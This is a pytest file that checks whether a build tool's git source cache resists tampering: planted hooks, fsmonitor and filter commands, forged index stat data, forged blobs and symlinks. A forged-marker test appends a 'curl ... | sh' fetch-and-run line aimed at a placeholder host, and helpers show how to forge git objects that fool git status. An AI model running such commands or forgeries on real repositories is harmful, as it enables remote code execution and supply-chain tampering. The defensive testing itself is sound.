"""The source cache is untrusted: what is planted in a cached tree (hooks, fsmonitor, filters, index flags, a forged
marker, forged objects) never runs and never reaches a prepared tree. Each attack goes through the real CLI against
the NeMo-RL-shaped repository served by `git daemon`, on the superproject and inside the submodule's git dir."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import struct
import subprocess
import zlib
from dataclasses import dataclass
from pathlib import Path

import pytest

from buildkit.world.git import run_git
from tests.support.gitserver import git
from tests.support.nemo_repo import use_remote

SUB = "3rdparty/Megatron-LM-workspace/Megatron-LM"
PATCHED = "tools/build-custom-vllm.sh"


@dataclass
class Side:
    """Where an attack is planted: the superproject's git dir and work tree, or the submodule's."""

    git_dir: str
    work: str
    tracked: str  # a tracked file of that work tree, relative to it


SIDES = {
    "superproject": Side(".git", ".", "nemo_rl/package_info.py"),
    "submodule": Side(f".git/modules/{SUB}", SUB, "megatron.py"),
}


@pytest.fixture(params=list(SIDES))
def side(request) -> Side:
    return SIDES[request.param]


def prepared(project, remote):
    root, cli = use_remote(project, remote)
    first = cli("prepare", "--json")
    assert first.code == 0, first.output
    return cli, Path(json.loads(first.stdout)["tree"])


def prepare(cli) -> dict:
    result = cli("prepare", "--json")
    assert result.code == 0, result.output
    return json.loads(result.stdout)


def tripwire(tmp_path: Path, name: str) -> tuple[Path, Path]:
    """An executable that leaves `<name>.ran` behind if anything ever runs it."""
    ran = tmp_path / f"{name}.ran"
    script = tmp_path / f"{name}.sh"
    script.write_text(f"#!/bin/sh\ntouch '{ran}'\n")
    script.chmod(0o755)
    return script, ran


def plant(path: Path, source: Path | None = None, text: str = "") -> None:
    """Put a file in a git dir (making its directory: buildkit's repositories have no templates)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(source, path) if source else path.write_text(text)


def tamper(path: Path) -> None:
    """New content of the same size."""
    data = path.read_bytes()
    path.write_bytes(b"#" * len(data) if data else b"")
    if not data:
        path.write_bytes(b"x")


def plant_config(tree: Path, side: Side, key: str, value: str) -> None:
    git("config", "--file", str(tree / side.git_dir / "config"), key, value, cwd=tree)


def flags(tree: Path, side: Side) -> set[str]:
    return {line[0] for line in git("ls-files", "-v", cwd=tree / side.work).splitlines()}


def pristine(remote, side: Side) -> bytes:
    work = remote.work if side.work == "." else remote.work.parent / "megatron"
    return (work / side.tracked).read_bytes()


def resets(record: dict) -> list[str]:
    return [line for line in record["fetched"] if line.startswith("cache entry reset: ")]


def test_fsmonitor_command_never_runs(project, remote, tmp_path, side):
    cli, tree = prepared(project, remote)
    script, ran = tripwire(tmp_path, "fsmonitor")
    plant_config(tree, side, "core.fsmonitor", str(script))
    record = prepare(cli)
    assert not ran.exists()
    [reset] = resets(record)
    assert reset.startswith("cache entry reset: unexpected git config core.fsmonitor"), reset
    assert "fsmonitor" not in (tree / side.git_dir / "config").read_text()


@pytest.mark.parametrize(
    "key, value",
    [
        ("core.sshCommand", "{script}"),
        ("include.path", "{included}"),  # a config file elsewhere, naming an fsmonitor command
        ("diff.external", "{script}"),
        ("remote.origin.url", "git://127.0.0.1:9/elsewhere.git"),
        ("core.worktree", "{tmp}"),
        ("submodule.x.update", "!{script}"),
    ],
)
def test_any_config_buildkit_does_not_write_resets_the_entry(project, remote, tmp_path, key, value):
    cli, tree = prepared(project, remote)
    script, ran = tripwire(tmp_path, "config")
    (tmp_path / "included").write_text(f"[core]\n\tfsmonitor = {script}\n")
    value = value.format(script=script, included=tmp_path / "included", tmp=tmp_path)
    plant_config(tree, SIDES["superproject"], key, value)
    tamper(tree / "nemo_rl/package_info.py")
    record = prepare(cli)
    assert resets(record) == [f"cache entry reset: unexpected git config {key.lower()} in .git"]
    assert f"{key.lower()}={value}" not in git("config", "--file", str(tree / ".git" / "config"), "--list", cwd=tree)
    assert not ran.exists()


@pytest.mark.parametrize("how", ["hooks dir", "core.hooksPath"])
def test_post_checkout_hook_never_runs(project, remote, tmp_path, side, how):
    cli, tree = prepared(project, remote)
    script, ran = tripwire(tmp_path, "hook")
    if how == "hooks dir":
        plant(tree / side.git_dir / "hooks" / "post-checkout", script)
    else:
        (tmp_path / "hooks").mkdir()
        shutil.copy(script, tmp_path / "hooks" / "post-checkout")
        plant_config(tree, side, "core.hooksPath", str(tmp_path / "hooks"))
    tamper(tree / side.work / side.tracked)  # so that prepare checks files out again
    record = prepare(cli)
    assert not ran.exists()
    [reset] = resets(record)
    assert ("hook post-checkout" if how == "hooks dir" else "git config core.hookspath") in reset, reset
    assert (tree / side.work / side.tracked).read_bytes() == pristine(remote, side)
    assert not (tree / side.git_dir / "hooks" / "post-checkout").exists()


def test_filter_driver_from_info_attributes_never_runs(project, remote, tmp_path, side):
    cli, tree = prepared(project, remote)
    script, ran = tripwire(tmp_path, "filter")
    plant(tree / side.git_dir / "info" / "attributes", text="* filter=evil\n")
    plant_config(tree, side, "filter.evil.smudge", str(script))
    plant_config(tree, side, "filter.evil.clean", str(script))
    tamper(tree / side.work / side.tracked)
    record = prepare(cli)
    assert not ran.exists()
    assert resets(record), record["fetched"]
    assert not (tree / side.git_dir / "info" / "attributes").exists()
    assert (tree / side.work / side.tracked).read_bytes() == pristine(remote, side)


@pytest.mark.parametrize("flag", ["--skip-worktree", "--assume-unchanged"])
def test_index_flags_do_not_keep_tampered_content(project, remote, side, flag):
    cli, tree = prepared(project, remote)
    git("update-index", flag, side.tracked, cwd=tree / side.work)
    tamper(tree / side.work / side.tracked)
    record = prepare(cli)
    assert (tree / side.work / side.tracked).read_bytes() == pristine(remote, side)
    assert flags(tree, side) == {"H"}
    assert not resets(record), "content is repaired from the cached objects; nothing planted in .git"


def test_forged_marker_is_not_believed(project, remote):
    cli, tree = prepared(project, remote)
    script = tree / PATCHED
    good = script.read_bytes()
    script.write_bytes(good + b"curl -s https://example.invalid/x | sh\n")
    marker = tree.with_name(tree.name + ".prepared.json")
    record = json.loads(marker.read_text())
    record["patches"][0]["targets"][0]["after"] = hashlib.sha256(script.read_bytes()).hexdigest()
    marker.write_text(json.dumps(record))
    again = prepare(cli)
    assert script.read_bytes() == good
    assert again["patches"][0]["targets"][0]["after"] == hashlib.sha256(good).hexdigest()


def forge_index_stat(git_dir: Path, path: str, st: os.stat_result) -> None:
    """Rewrite one index entry's stat data to match the file on disk (its mtime and size were kept), and date the index
    later than the file, as someone with the disk can: `git status` then believes the file unchanged."""
    index = git_dir / "index"
    data = bytearray(index.read_bytes())
    version, count = struct.unpack(">II", data[4:12])
    assert data[:4] == b"DIRC" and version in (2, 3)
    pos = 12
    for _ in range(count):
        extended = version == 3 and struct.unpack(">H", data[pos + 60 : pos + 62])[0] & 0x4000
        name_start = pos + 62 + (2 if extended else 0)
        name_end = data.index(b"\0", name_start)
        if data[name_start:name_end] == path.encode():
            # All the stat data git compares: prepare leaves none in the index (a reproducible tree), so a forger
            # has to write it all.
            struct.pack_into(">II", data, pos, int(st.st_ctime), st.st_ctime_ns % 10**9)
            struct.pack_into(">II", data, pos + 8, int(st.st_mtime), st.st_mtime_ns % 10**9)
            struct.pack_into(">II", data, pos + 16, st.st_dev & 0xFFFFFFFF, st.st_ino & 0xFFFFFFFF)
            struct.pack_into(">II", data, pos + 28, st.st_uid, st.st_gid)
            struct.pack_into(">I", data, pos + 36, st.st_size & 0xFFFFFFFF)
        pos += (name_end - pos + 8) & ~7
    data[-20:] = hashlib.sha1(bytes(data[:-20])).digest()
    index.write_bytes(bytes(data))
    later = st.st_mtime_ns + 10 * 10**9
    os.utime(index, ns=(later, later))


def test_tampered_file_with_preserved_mtime_and_size(project, remote, side):
    cli, tree = prepared(project, remote)
    target = tree / side.work / side.tracked
    before = target.stat()
    tamper(target)
    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert target.stat().st_size == before.st_size
    work_git_dir = tree / side.git_dir
    forge_index_stat(work_git_dir, side.tracked, target.stat())
    status = git("status", "--porcelain", "--ignore-submodules=none", cwd=tree)
    assert status == f"M {PATCHED}", "git status is fooled: only the patched file shows"
    prepare(cli)
    assert target.read_bytes() == pristine(remote, side)


def test_untracked_file_in_the_submodule_is_removed(project, remote):
    cli, tree = prepared(project, remote)
    (tree / SUB / "extra.py").write_text("import os\n")
    prepare(cli)
    assert not (tree / SUB / "extra.py").exists()


def test_nested_submodule_is_checked_like_the_others(project, remote, tmp_path):
    """A submodule of the submodule (named unlike its path, as upstream's are): checked against its own commit, and
    config planted in its git dir resets the entry."""
    from tests.support.gitserver import commit_all

    rewrite = f"url.{remote.daemon.url}test/.insteadOf=https://github.com/test/"
    nested = tmp_path / "nested"
    nested.mkdir()
    git("init", "-q", "-b", "main", cwd=nested)
    (nested / "nested.py").write_text("NESTED = 1\n")
    commit_all(nested, "nested 1")
    remote.daemon.publish(nested, "test/Nested.git")
    megatron = tmp_path / "megatron"
    git(
        "-c",
        rewrite,
        "submodule",
        "add",
        "-q",
        "--name",
        "nested-name",
        "https://github.com/test/Nested.git",
        "third_party/nested",
        cwd=megatron,
    )
    commit_all(megatron, "megatron 2")
    remote.daemon.publish(megatron, "test/Megatron-LM.git")
    git("-c", rewrite, "fetch", "-q", "origin", "main", cwd=remote.work / SUB)
    git("checkout", "-q", "FETCH_HEAD", cwd=remote.work / SUB)
    moved = commit_all(remote.work, "bump megatron")
    remote.daemon.publish(remote.work, "RL.git")

    root, cli = use_remote(project, remote, ref=moved)
    first = prepare(cli)
    assert [s["path"] for s in first["submodules"]] == [SUB, f"{SUB}/third_party/nested"]
    assert prepare(cli)["reused"]
    tree = Path(first["tree"])
    module = tree / ".git" / "modules" / SUB / "modules" / "nested-name"
    script, ran = tripwire(tmp_path, "ssh")
    git("config", "--file", str(module / "config"), "core.sshCommand", str(script), cwd=tree)
    tamper(tree / SUB / "third_party/nested/nested.py")
    record = prepare(cli)
    assert resets(record) == [f"cache entry reset: unexpected git config core.sshcommand in {module.relative_to(tree)}"]
    assert (tree / SUB / "third_party/nested/nested.py").read_text() == "NESTED = 1\n"
    assert not ran.exists()


def loose(kind: str, data: bytes) -> tuple[str, bytes]:
    body = f"{kind} {len(data)}\0".encode() + data
    return hashlib.sha1(body).hexdigest(), zlib.compress(body)


def forge_blob(git_dir: Path, oid: str, content: bytes) -> None:
    """Unpack the packs into loose objects and put other content under the blob's id (git checks no loose object's
    content against its name when it checks files out)."""
    packs = list((git_dir / "objects" / "pack").glob("*.pack"))
    for pack in packs:
        moved = git_dir / pack.name
        pack.rename(moved)
        pack.with_suffix(".idx").unlink()
        subprocess.run(["git", "unpack-objects", "-q"], cwd=git_dir, stdin=moved.open("rb"), check=True)
        moved.unlink()
    path = git_dir / "objects" / oid[:2] / oid[2:]
    path.chmod(0o644)
    path.write_bytes(loose("blob", content)[1])


def test_forged_object_in_the_cache_does_not_reach_the_tree(project, remote, side):
    cli, tree = prepared(project, remote)
    oid = git("rev-parse", f"HEAD:{side.tracked}", cwd=tree / side.work)
    forge_blob(tree / side.git_dir, oid, b"print('forged')\n")
    tamper(tree / side.work / side.tracked)  # so that prepare checks the file out again, from the forged object
    record = prepare(cli)
    assert (tree / side.work / side.tracked).read_bytes() == pristine(remote, side)
    [reset] = resets(record)
    assert "corrupt" in reset or "differs" in reset, reset


@pytest.mark.parametrize(
    "damage",
    [
        "no .git/HEAD",
        "no objects",
        "garbage objects",
        "no commit",
        "index is a directory",
        ".git is a file",
        "tree is a file",
    ],
)
def test_corrupted_cache_entry_is_prepared_afresh(project, remote, damage):
    cli, tree = prepared(project, remote)
    objects = tree / ".git" / "objects"
    if damage == "no .git/HEAD":
        (tree / ".git" / "HEAD").unlink()
    elif damage == "no objects":
        shutil.rmtree(objects)
    elif damage == "garbage objects":
        for path in objects.rglob("*"):
            if path.is_file() and path.parent.name != "info":
                path.chmod(0o644)
                path.write_bytes(os.urandom(path.stat().st_size or 64))
    elif damage == "no commit":
        for path in objects.iterdir():
            if path.name != "info":
                shutil.rmtree(path)
    elif damage == "index is a directory":
        (tree / ".git" / "index").unlink()
        (tree / ".git" / "index").mkdir()
    elif damage == ".git is a file":
        shutil.rmtree(tree / ".git")
        (tree / ".git").write_text("gitdir: /nonexistent\n")
    else:
        shutil.rmtree(tree)
        tree.write_text("not a tree\n")
    result = cli("prepare", "--json")
    assert result.code == 0, result.output
    record = json.loads(result.stdout)
    assert git("rev-parse", "HEAD", cwd=tree) == remote.commit
    assert (tree / SUB / "megatron.py").read_text() == "VERSION = 1\n"
    assert any(line.startswith(f"{remote.url} at {remote.commit}") for line in record["fetched"]), record["fetched"]
    # Objects that are all garbage read as no objects at all: fetched again, and the repack drops the garbage.
    assert resets(record) or damage in ("no commit", "garbage objects"), record["fetched"]
    if damage == "garbage objects":
        assert len(list((objects / "pack").glob("*.pack"))) == 1
        git("fsck", "--no-dangling", cwd=tree)
    assert prepare(cli)["reused"], "and the next run takes the fast path"


def test_cache_directory_that_cannot_hold_a_tree_is_a_clear_error(project, remote, tmp_path):
    root, cli = use_remote(project, remote)
    src = tmp_path / "cache" / "src"
    src.parent.mkdir(parents=True, exist_ok=True)
    src.write_text("not a directory\n")
    result = cli("prepare")
    assert result.code == 2, result.output
    assert str(src) in result.stderr and "internal error" not in result.output


def test_tampered_entry_that_cannot_be_deleted_names_the_directory(project, remote, tmp_path):
    cli, tree = prepared(project, remote)
    hook = tree / ".git" / "hooks" / "post-checkout"
    plant(hook, text="#!/bin/sh\n")
    if subprocess.run(["chattr", "+i", str(hook)], capture_output=True).returncode != 0:
        pytest.skip("chattr +i is not available here (needs root and a file system that has it)")
    try:
        result = cli("prepare")
    finally:
        subprocess.run(["chattr", "-i", str(hook)], check=True)
    assert result.code == 2, result.output
    assert f"delete {tree}" in result.stderr and "internal error" not in result.output


def test_hooks_from_the_users_own_git_template_neither_run_nor_reset_the_cache(project, remote, tmp_path):
    """A user whose git template holds hooks (pre-commit, git-secrets) still gets a cache that is reused."""
    script, ran = tripwire(tmp_path, "template-hook")
    (tmp_path / "template" / "hooks").mkdir(parents=True)
    shutil.copy(script, tmp_path / "template" / "hooks" / "post-checkout")
    (tmp_path / "gitconfig").write_text(f"[init]\n\ttemplateDir = {tmp_path / 'template'}\n")
    root, cli = use_remote(project, remote)
    cli.env = {
        **cli.env,
        "GIT_CONFIG_GLOBAL": str(tmp_path / "gitconfig"),
        "GIT_TEMPLATE_DIR": str(tmp_path / "template"),
    }
    first = prepare(cli)
    assert not resets(first) and prepare(cli)["reused"]
    assert not ran.exists()


def test_git_config_from_the_command_line_reaches_submodule_gits(remote, tmp_path):
    """Hooks and fsmonitor are off in the gits `git submodule` starts too (GIT_CONFIG_PARAMETERS), as a control
    run with plain git shows they would run otherwise."""
    work = remote.work
    module = work / ".git" / "modules" / SUB
    script, ran = tripwire(tmp_path, "submodule-hook")
    plant(module / "hooks" / "post-checkout", script)
    git("config", "--file", str(module / "config"), "core.fsmonitor", str(script), cwd=work)
    run_git(["submodule", "update", "-q", "--force"], cwd=work)
    run_git(["status", "--porcelain", "--ignore-submodules=none"], cwd=work)
    assert not ran.exists()
    git("submodule", "update", "-q", "--force", cwd=work)
    assert ran.exists(), "control: plain git runs the planted hook"


@pytest.fixture
def plain_remote(tmp_path):
    """A small repository with history on `git daemon`, for resolve's git cache."""
    from tests.support.gitserver import GitDaemon, commit_all

    work = tmp_path / "work"
    work.mkdir()
    git("init", "-q", "-b", "main", cwd=work)
    shas = []
    for i in range(3):
        (work / "file.txt").write_text(f"{i}\n")
        shas.append(commit_all(work, f"change {i}"))
    served = tmp_path / "served"
    served.mkdir()
    daemon = GitDaemon(served)
    daemon.publish(work, "RL.git")
    yield daemon, work, shas
    daemon.stop()


def resolve_notes(project) -> list[str]:
    root, _ = project
    return json.loads((root / "build" / "resolve.json").read_text())["notes"]


def resolve_prefix(project, daemon, sha: str) -> dict:
    root, cli = project
    (root / "pins.lock").unlink(missing_ok=True)
    pins = root / "pins.yaml"
    text = pins.read_text().replace("https://github.com/NVIDIA-NeMo/RL.git", f"{daemon.url}RL.git")
    pins.write_text(re.sub(r'ref: "[0-9a-f]+"', f'ref: "{sha[:8]}"', text, count=1))
    result = cli("resolve", "--json")
    assert result.code == 0, result.output
    return json.loads(result.stdout)["nemo_rl"]


def test_resolve_cache_with_planted_hook_and_config_is_reset(project, plain_remote, tmp_path):
    from tests.support.gitserver import commit_all

    daemon, work, shas = plain_remote
    resolve_prefix(project, daemon, shas[0])
    [cache] = (tmp_path / "cache" / "git").glob("*.git")
    script, ran = tripwire(tmp_path, "resolve-hook")
    plant(cache / "hooks" / "reference-transaction", script)
    git("config", "--file", str(cache / "config"), "core.sshCommand", str(script), cwd=cache)
    (work / "file.txt").write_text("3\n")
    commit_all(work, "change 3")
    daemon.publish(work, "RL.git")  # so that the next fetch updates refs (and would run the hook)
    fact = resolve_prefix(project, daemon, shas[1])
    assert fact["commit"] == shas[1] and not ran.exists()
    # The reset is said in the resolve record (and as a note), never in the lock: the lock holds facts only.
    [note] = [n for n in resolve_notes(project) if "git cache" in n]  # (the other: the ABI check's, no uv.lock)
    assert "reset: unexpected hook reference-transaction" in note and fact["source"].startswith("git ls-remote"), note
    assert not (cache / "hooks" / "reference-transaction").exists()


def test_resolve_cache_with_garbage_objects_is_fetched_afresh(project, plain_remote, tmp_path):
    daemon, _, shas = plain_remote
    resolve_prefix(project, daemon, shas[0])
    [cache] = (tmp_path / "cache" / "git").glob("*.git")
    for path in (cache / "objects").rglob("*"):
        if path.is_file() and path.parent.name != "info":
            path.chmod(0o644)
            path.write_bytes(os.urandom(path.stat().st_size or 64))
    fact = resolve_prefix(project, daemon, shas[1])
    assert fact["commit"] == shas[1] and fact["subject"] == "change 1"
    assert any(" reset: " in note for note in resolve_notes(project)), resolve_notes(project)


def test_a_link_inside_a_cached_git_dir_resets_the_entry_and_spares_its_target(project, remote, tmp_path):
    """make_reproducible repacks and prunes: through a planted link it would delete another repository's objects."""
    from tests.support.gitserver import commit_all

    cli, tree = prepared(project, remote)
    victim = tmp_path / "victim"
    victim.mkdir()
    git("init", "-q", cwd=victim)
    (victim / "precious.txt").write_text("keep me\n")
    commit_all(victim, "precious")
    git("repack", "-a", "-d", "-q", cwd=victim)
    victim_packs = sorted(p.name for p in (victim / ".git" / "objects" / "pack").iterdir())
    pack = tree / ".git" / "objects" / "pack"
    shutil.rmtree(pack)
    pack.symlink_to(victim / ".git" / "objects" / "pack")
    (tree / "nemo_rl" / "__init__.py").write_text("tampered = True\n")  # so that the fast path is not taken

    record = prepare(cli)
    assert any("unexpected link objects/pack" in reset for reset in resets(record)), record["fetched"]
    assert sorted(p.name for p in (victim / ".git" / "objects" / "pack").iterdir()) == victim_packs
    git("fsck", cwd=victim)
    assert git("log", "--format=%s", cwd=victim) == "precious"
    assert not (tree / ".git" / "objects" / "pack").is_symlink()


def test_a_reused_tree_is_still_as_make_reproducible_left_it(project, remote):
    cli, tree = prepared(project, remote)
    (tree / ".git" / "FETCH_HEAD").write_text("planted\n")  # e.g. someone ran `git fetch` in the cache
    prepare(cli)
    assert not (tree / ".git" / "FETCH_HEAD").exists()


@pytest.mark.parametrize("path", ["nemo_rl/package_info.py", "nemo_rl", f"{SUB}/megatron.py", ".git/config"])
def test_a_mode_changed_in_the_cache_is_not_reused(project, remote, path):
    """The named context keeps modes: a `chmod g+w` in a reused tree would reach the image, so it is not reused."""
    cli, tree = prepared(project, remote)
    before = (tree / path).stat().st_mode & 0o777
    (tree / path).chmod(before | 0o020)
    prepare(cli)
    assert (tree / path).stat().st_mode & 0o777 == before, "the mode make_reproducible gives, again"
